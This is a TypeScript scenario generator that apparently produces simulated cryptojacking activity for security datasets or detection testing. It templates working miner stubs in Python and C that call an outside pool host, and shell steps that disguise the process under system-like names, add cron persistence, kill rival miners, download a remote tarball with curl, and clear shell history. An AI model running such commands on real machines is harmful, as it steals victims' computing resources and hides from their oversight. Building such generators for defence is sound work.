import type { Draw } from '../draw.ts';
import type { Attack, Place } from '../scenario.ts';
import { behind, link, look, maybe, remote, root, workFolder, write } from '../ways.ts';

function worker(draw: Draw, place: Place): string {
  const { host, port } = remote(draw, place);
  const rounds = draw.int(15, 60);
  return `#!/usr/bin/python3
import hashlib, json, os, socket, time
pool = socket.create_connection(("${host}", ${port}), 5)
pool.sendall((json.dumps({"id": 1, "method": "${draw.pick(['login', 'mining.subscribe', 'mining.authorize'])}", "params": ["${draw.word()}", "x"]}) + "\\n").encode())
nonce = os.urandom(32)
for i in range(${rounds}):
  until = time.monotonic() + ${draw.pick(['0.01', '0.02', '0.03'])}
  while time.monotonic() < until: nonce = hashlib.sha256(nonce).digest()
  if i % ${draw.int(4, 12)} == 0:
    try: pool.sendall((json.dumps({"id": i, "method": "submit", "params": [nonce.hex()]}) + "\\n").encode())
    except OSError: pass
  time.sleep(${draw.int(1, 3)})`;
}

function source(draw: Draw, place: Place): string {
  const { host, port } = remote(draw, place);
  return `#include <arpa/inet.h>
#include <signal.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>
int main(void) {
  signal(SIGPIPE, SIG_IGN);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(${port})};
  inet_pton(AF_INET, "${host}", &a.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (void *)&a, sizeof a)) return 1;
  unsigned h = 2166136261u; char line[64];
  for (int i = 0; i < ${draw.int(15, 60)}; i++) {
    for (clock_t until = clock() + CLOCKS_PER_SEC / 50; clock() < until;) for (int k = 0; k < 1000; k++) h = (h ^ k) * 16777619u;
    if (i % ${draw.int(4, 10)} == 0 && write(s, line, snprintf(line, sizeof line, "{\\"job\\":%d,\\"r\\":\\"%x\\"}\\n", i, h)) < 0) break;
    sleep(${draw.int(1, 3)});
  }
  return 0;
}`;
}

/** The processor works for another; the program is written or built here. */
const built: Attack = {
  name: 'processor-used',
  family: 'processor-used',
  techniques: ['T1496', 'T1036.005', 'T1571'],
  as: 'either',
  needs: ['python3', 'gcc', 'taskset', 'crontab', 'sudo'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const name = draw.pick([
      'kworkerds',
      'sysupdate',
      'dbused',
      'crond',
      'networkd',
      'watchdogd',
      draw.word(),
      draw.word(),
    ]);
    const path = `${folder}/${draw.chance(0.3) ? '.' : ''}${name}`;
    const made = draw.chance(0.5)
      ? [write(draw, path, worker(draw, place))]
      : [write(draw, `${path}.c`, source(draw, place)), `gcc -O2 -o ${path} ${path}.c`, `rm ${path}.c`];
    return [
      ...draw.some(
        [
          'nproc',
          'lscpu | head -15',
          'cat /proc/cpuinfo | grep -c processor',
          'free -m',
          'uptime',
          'top -bn1 | head -12',
        ],
        draw.int(1, 3),
      ),
      `mkdir -p ${folder}`,
      ...made,
      `chmod ${draw.pick(['+x', '755', '700'])} ${path}`,
      ...maybe(
        draw,
        0.3,
        root(place, `bash -c "echo ${draw.int(64, 1280)} > /tmp/${draw.word()}; sysctl -n vm.nr_hugepages"`),
      ),
      ...maybe(
        draw,
        0.3,
        `cat > ${folder}/config.json << 'EOF'\n{"threads": ${draw.int(1, 8)}, "url": "${remote(draw, place).host}:${draw.pick(place.peerPorts)}", "user": "${draw.word()}"}\nEOF`,
      ),
      behind(draw, draw.pick([path, `nice -n ${draw.int(5, 19)} ${path}`, `taskset -c 0 ${path}`])),
      ...maybe(
        draw,
        0.4,
        `(crontab -l 2>/dev/null; echo "*/${draw.int(1, 15)} * * * * pgrep -f ${name} || ${path}") | crontab -`,
      ),
      `sleep ${draw.int(20, 80)}`,
      draw.pick([`pgrep -fl ${name}`, 'ps aux --sort=-%cpu | head -4', 'ss -tnp | head']),
      ...maybe(draw, 0.4, `pkill -f ${path}`),
      ...maybe(draw, 0.4, `rm -rf ${folder}`),
    ];
  },
};

/** A brought installer removes rivals, starts a worker, and watches it. */
const installer: Attack = {
  name: 'processor-used-by-installer',
  family: 'processor-used',
  techniques: ['T1496', 'T1105', 'T1053.003', 'T1489'],
  as: 'either',
  needs: ['python3', 'curl', 'crontab'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const name = draw.word();
    const script = `/tmp/${draw.word()}.sh`;
    const rivals = draw.some(['kdevtmpfsi', 'kinsing', 'xmrig', 'sysrv', 'watchbog', 'ddgs'], draw.int(1, 4));
    const body = [
      '#!/bin/bash',
      ...maybe(draw, 0.6, 'ulimit -n 4096'),
      ...rivals.map((rival) => `pkill -9 -f ${rival}`),
      ...maybe(draw, 0.5, `ps aux | awk '$3>80 {print $2}' | head -1 > /tmp/${draw.word()}`),
      `mkdir -p ${folder}`,
      `curl -s ${link(draw, place, '.tar.gz')} -o ${folder}/${name}.tar.gz && tar xzf ${folder}/${name}.tar.gz -C ${folder}`,
      `cat > ${folder}/${name} << 'PY'\n${worker(draw, place)}\nPY`,
      `chmod +x ${folder}/${name}`,
      ...maybe(
        draw,
        0.5,
        `(crontab -l 2>/dev/null | grep -v ${name}; echo "* * * * * ${folder}/${name}") | crontab -`,
      ),
      `nohup ${folder}/${name} > /dev/null 2>&1 &`,
      ...maybe(draw, 0.5, 'history -c', 'rm -f $0'),
    ].join('\n');
    return [
      ...look(draw, draw.int(0, 3)),
      write(draw, script, body),
      `bash ${script}`,
      `sleep ${draw.int(15, 60)}`,
      draw.pick([`pgrep -fl ${name}`, 'ps aux | tail -4', 'crontab -l']),
      ...maybe(draw, 0.3, `pkill -f ${folder}/${name}`),
    ];
  },
};

export const MINING: readonly Attack[] = [built, installer];
